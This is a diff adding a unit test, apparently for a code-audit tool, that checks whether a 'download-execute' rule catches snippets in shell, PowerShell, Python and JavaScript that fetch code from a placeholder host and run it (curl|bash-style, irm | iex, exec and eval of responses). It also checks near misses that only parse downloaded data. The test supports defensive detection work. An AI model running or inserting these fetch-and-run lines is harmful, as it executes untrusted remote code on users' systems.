@@ -120,4 +120,32 @@ describe("execution rules", () => {
       ),
     ).toBe("low");
   });
+
+  it("download-execute: fetched into a name or a file and run there (eval of $(curl), irm | iex, exec of a response)", () => {
+    const caught = {
+      "a.sh": 'eval "$(curl -fsSL https://tblfmt.example.io/env.sh)"\n',
+      "b.sh": "curl -fsSL https://tblfmt.example.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh\n",
+      "c.sh": "wget -q https://tblfmt.example.io/agent -O /tmp/a && chmod +x /tmp/a && /tmp/a\n",
+      "d.sh": "curl -fsSL https://tblfmt.example.io/s.sh -o /tmp/s.sh\nbash /tmp/s.sh\n",
+      "e.ps1": "irm https://tblfmt.example.io/i.ps1 | iex\n",
+      "f.ps1": "iwr -useb https://tblfmt.example.io/i.ps1 | iex\n",
+      "g.py": 'import requests\ncode = requests.get("https://tblfmt.example.io/p.py").text\nexec(code)\n',
+      "h.mjs":
+        'const res = await fetch("https://tblfmt.example.io/p.js");\nconst src = await res.text();\neval(src);\n',
+      "i.mjs": 'eval(await (await fetch("https://tblfmt.example.io/p.js")).text());\n',
+    };
+    for (const [file, text] of Object.entries(caught))
+      expect([file, severityOf(auditText({ [file]: text }), "download-execute") !== undefined]).toEqual([
+        file,
+        true,
+      ]);
+    // Near misses: a response read as data, a file downloaded and parsed.
+    const data = {
+      "a.py":
+        'import requests\nconfig = requests.get("https://api.example.io/c").json()\nprint(config["name"])\n',
+      "b.sh": "curl -fsSL https://api.example.io/data.json -o /tmp/data.json && jq .name /tmp/data.json\n",
+    };
+    for (const [file, text] of Object.entries(data))
+      expect([file, severityOf(auditText({ [file]: text }), "download-execute")]).toEqual([file, undefined]);
+  });
 });
